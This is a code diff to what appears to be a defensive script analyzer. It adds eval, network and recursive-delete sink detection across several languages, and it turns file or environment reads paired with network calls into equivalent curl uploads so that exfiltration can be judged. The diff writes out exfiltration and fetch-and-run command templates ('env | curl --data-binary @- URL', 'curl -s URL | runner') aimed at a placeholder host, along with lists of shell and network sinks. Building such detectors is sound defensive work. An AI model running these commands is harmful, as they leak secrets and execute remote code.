@@ -6,9 +6,12 @@ they do is "executes code".
 from __future__ import annotations
 
 import re
+import shlex
 
+from phlegyas.analysis.shell.interpreters import script_flow as S
 from phlegyas.analysis.shell.interpreters.code_report import CodeReport
 from phlegyas.analysis.shell.interpreters.pure_scripts import pure_script
+from phlegyas.core.redact import secret_kind
 
 _LANG_SINKS: dict[str, dict[str, str]] = {
     # name → "shell" (a command line), "argv" (a program), "rm", "rmr", "rmdir", "write", "network"
@@ -16,22 +19,26 @@ _LANG_SINKS: dict[str, dict[str, str]] = {
            "execFileSync": "argv", "fork": "argv", "rmSync": "rmr", "rmdirSync": "rmdir", "unlinkSync": "rm",
            "rm": "rmr", "rmdir": "rmdir", "unlink": "rm", "writeFileSync": "write", "writeFile": "write",
            "appendFileSync": "write", "appendFile": "write", "createWriteStream": "write", "fetch": "network",
-           "request": "network", "connect": "network", "createConnection": "network", "get": "network"},
+           "request": "network", "connect": "network", "createConnection": "network", "get": "network",
+           "eval": "code", "Function": "code", "runInThisContext": "code", "runInNewContext": "code",
+           "axios": "network", "post": "network", "put": "network"},
     "perl": {"system": "shell", "exec": "shell", "qx": "shell", "unlink": "rm", "rmdir": "rmdir",
              "rmtree": "rmr", "remove_tree": "rmr", "open": "open", "IO::Socket::INET": "network",
-             "LWP::UserAgent": "network", "HTTP::Tiny": "network", "Socket": "network"},
+             "LWP::UserAgent": "network", "HTTP::Tiny": "network", "Socket": "network", "eval": "code"},
     "ruby": {"system": "shell", "exec": "shell", "spawn": "shell", "popen": "shell", "capture2": "shell",
              "capture3": "shell", "capture2e": "shell", "popen3": "shell", "rm_rf": "rmr", "rm_r": "rmr",
              "remove_dir": "rmr", "rm": "rm", "rm_f": "rm", "delete": "rm", "unlink": "rm", "write": "write",
-             "TCPSocket": "network", "Net::HTTP": "network", "open-uri": "network", "Socket": "network"},
+             "TCPSocket": "network", "Net::HTTP": "network", "open-uri": "network", "Socket": "network",
+             "eval": "code", "instance_eval": "code", "HTTParty": "network", "Faraday": "network"},
     "php": {"system": "shell", "exec": "shell", "shell_exec": "shell", "passthru": "shell", "popen": "shell",
             "proc_open": "shell", "pcntl_exec": "argv", "unlink": "rm", "rmdir": "rmdir", "file_put_contents": "write",
-            "fsockopen": "network", "curl_exec": "network", "socket_create": "network", "stream_socket_client": "network"},
+            "fsockopen": "network", "curl_exec": "network", "socket_create": "network", "stream_socket_client": "network",
+            "eval": "code", "curl_init": "network", "file_get_contents": "url", "fopen": "url"},
     "lua": {"execute": "shell", "popen": "shell", "remove": "rm", "rename": "mv", "socket": "network"},
     "tcl": {"exec": "argv", "open": "open", "file": "fileop", "socket": "network"},
     "r": {"system": "shell", "system2": "argv", "shell": "shell", "unlink": "rmr", "file.remove": "rm",
           "download.file": "network", "url": "network", "socketConnection": "network"},
-    "julia": {"run": "backtick", "rm": "rm", "download": "network"},
+    "julia": {"run": "backtick", "rm": "rm", "download": "network", "HTTP.post": "network", "HTTP.get": "network"},
     "pwsh": {"Invoke-Expression": "shell", "iex": "shell", "Start-Process": "argv", "Remove-Item": "rmr",
              "Invoke-WebRequest": "network", "Invoke-RestMethod": "network"},
     "applescript": {"do shell script": "shell"},
@@ -103,10 +110,11 @@ _HOME_EXPRESSIONS: dict[str, re.Pattern[str]] = {
     "perl": re.compile(r"""\$ENV\{\s*['"]?HOME['"]?\s*\}|\(getpwuid\(\s*\$<\s*\)\)\[7\]|"""
                        r"""\bglob\(\s*['"]~['"]\s*\)|\bFile::HomeDir->my_home\b"""),
     "php": re.compile(r"""\bgetenv\(\s*['"]HOME['"]\s*\)|\$_(?:SERVER|ENV)\[\s*['"]HOME['"]\s*\]"""),
+    "julia": re.compile(r"""\bhomedir\(\s*\)|\bENV\[\s*"HOME"\s*\]"""),
 }
 _STRING = r"""(?:'[^'\\]*'|"[^"\\]*")"""
 _JOIN_CALL = re.compile(rf"""(?:\bpath|require\(\s*['"](?:node:)?path['"]\s*\))\.(?:join|resolve)\(\s*({_STRING}(?:\s*,\s*{_STRING})*)\s*\)|"""
-                        rf"""\b(?:File\.join|File\.expand_path|join_paths)\(\s*({_STRING}(?:\s*,\s*{_STRING})*)\s*\)""")
+                        rf"""\b(?:File\.join|File\.expand_path|join_paths|joinpath)\(\s*({_STRING}(?:\s*,\s*{_STRING})*)\s*\)""")
 _CONCAT = re.compile(rf"""({_STRING})\s*(?:\+|\.)\s*({_STRING})""")
 
 
@@ -144,7 +152,7 @@ _EVALS = {
     "php": re.compile(r"\b(?:eval|assert|create_function)\s*\(|\b(?:include|require)(?:_once)?\s*\(?\s*['\"]https?:"),
 }
 _DOWNLOADS = {
-    "js": re.compile(r"\bfetch\s*\(|\bhttps?\.(?:get|request)\b|\baxios\b|\brequire\(\s*['\"](?:node-fetch|request|got)['\"]|"
+    "js": re.compile(r"\bfetch\s*\(|\bhttps?\.(?:get|request)\b|\brequire\(\s*['\"](?:node:)?https?['\"]\s*\)\s*\.\s*(?:get|request)\b|\baxios\b|\brequire\(\s*['\"](?:node-fetch|request|got)['\"]|"
                      r"\b(?:curl|wget)\s"),
     "ruby": re.compile(r"\bURI\.open\b|open-uri|\bNet::HTTP\b|\bopen\(\s*['\"]https?:|\b(?:curl|wget)\s|HTTParty|Faraday"),
     "perl": re.compile(r"\bLWP\b|\bHTTP::Tiny\b|\bget(?:store)?\s*\(\s*['\"]https?:|\b(?:curl|wget)\s"),
@@ -165,7 +173,7 @@ def remote_eval(code: str, lang: str) -> str | None:
     return f"curl -s {url.group(0) if url else 'https://unknown.invalid/'} | {runner}"
 
 
-def analyze_literal_code(code: str, lang: str) -> CodeReport:
+def analyze_literal_code(code: str, lang: str, depth: int = 0) -> CodeReport:
     """Find the literal commands and file operations in code we cannot parse (see the module docstring)."""
     report = CodeReport()
     verdict = pure_script(code, lang)
@@ -177,11 +185,12 @@ def analyze_literal_code(code: str, lang: str) -> CodeReport:
     fetched = remote_eval(code, lang)
     if fetched is not None:
         report.shell.append(fetched)
-    code = literal_paths(code, lang)
+    code = literal_paths(S.interpolated_home(S.decode_literals(code, lang), lang), lang)
     sinks = _LANG_SINKS.get(lang, {})
     toks = _tokens(code)
     if lang == "perl":
         _perl_qx(code, report)
+    unseen_delete = recursive = False  # a delete of a computed path (a loop's item), and whether it recurses
     for idx, (kind, text) in enumerate(toks):
         if kind == "b" and (lang in _BACKTICK_SHELL):
             report.shell.append(text)
@@ -191,12 +200,68 @@ def analyze_literal_code(code: str, lang: str) -> CodeReport:
         word = text.rsplit(".", 1)[-1] if lang in ("js", "lua", "ruby") else text
         if lang == "ruby" and "::" in text:
             word = text.rsplit("::", 1)[-1].rsplit(".", 1)[-1]
-        what = sinks.get(text) or sinks.get(word)
+        what = sinks.get(text) or sinks.get(word) or sinks.get(text.rsplit(".", 1)[0])  # `Net::HTTP.post_form`
         if what is None:
             continue
+        if what in ("rm", "rmdir") and _RECURSIVE.search(_call_text(toks, idx + 1)):
+            what = "rmr"  # `fs.rmdirSync(p, {recursive: true})`, julia's `rm(p, recursive=true)`
         lits = _following_literals(toks, idx + 1)
+        if what in ("rm", "rmr", "rmdir") and not lits:
+            unseen_delete = True
+            recursive = recursive or what == "rmr"
+        if what == "code":
+            _evaluated(lits, report, lang, depth)
+            continue
         _literal_sink(what, lits, report, lang)
+    if unseen_delete or S.callable_delete(code, lang):
+        report.argvs.extend(S.listing_delete(root, recursive) for root in S.listings(code, lang))
+    if any(k == "network" for k, _ in report.notes):
+        _sent_secrets(code, lang, report)
     return report
+
+
+_RECURSIVE = re.compile(r"recursive[:=]true", re.IGNORECASE)
+
+
+def _call_text(toks: list[tuple[str, str]], i: int) -> str:
+    """The text of the parenthesised arguments that start at ``toks[i]``, without spaces."""
+    out: list[str] = []
+    depth = 0
+    for kind, text in toks[i:i + 60]:
+        out.append(text)
+        if kind == "p" and text in "([{":
+            depth += 1
+        elif kind == "p" and text in ")]}":
+            depth -= 1
+            if depth <= 0:
+                break
+    return "".join(out)
+
+
+def _evaluated(lits: list[str], report: CodeReport, lang: str, depth: int) -> None:
+    """``eval("…")`` of a literal (a decoded payload, often): its code, analysed in turn."""
+    if not lits or depth >= 3:
+        return
+    inner = analyze_literal_code(lits[0], lang, depth + 1)
+    report.shell.extend(inner.shell)
+    report.argvs.extend(inner.argvs)
+    report.notes.extend(inner.notes)
+    report.problems.extend(inner.problems)
+
+
+def _sent_secrets(code: str, lang: str, report: CodeReport) -> None:
+    """Code that reads files or the environment and talks to the network sends what it read: each read
+    becomes the upload ``curl`` would make of it, so that Tier 1 judges a secret in it as exfiltration."""
+    files, whole, names = S.read_sources(code, lang)
+    found = _URL.search(code)
+    url = found.group(0) if found else "https://unknown.invalid/"
+    for path in files:
+        report.argvs.append(["curl", "--data-binary", "@" + path, url])
+    if whole:
+        report.shell.append(f"env | curl --data-binary @- {shlex.quote(url)}")
+    for name in names:
+        if secret_kind(name) is not None and re.fullmatch(r"[A-Za-z_]\w{0,80}", name):
+            report.shell.append(f'curl -d "${name}" {shlex.quote(url)}')
 
 
 def _following_literals(toks: list[tuple[str, str]], i: int) -> list[str]:
@@ -228,6 +293,8 @@ def _following_literals(toks: list[tuple[str, str]], i: int) -> list[str]:
 
 
 def _literal_sink(what: str, lits: list[str], report: CodeReport, lang: str) -> None:
+    if what == "url" and lits and "://" in lits[0]:  # PHP's `file_get_contents("https://…")`
+        what = "network"
     if what == "network":
         report.notes.append(("network", lang))
         return
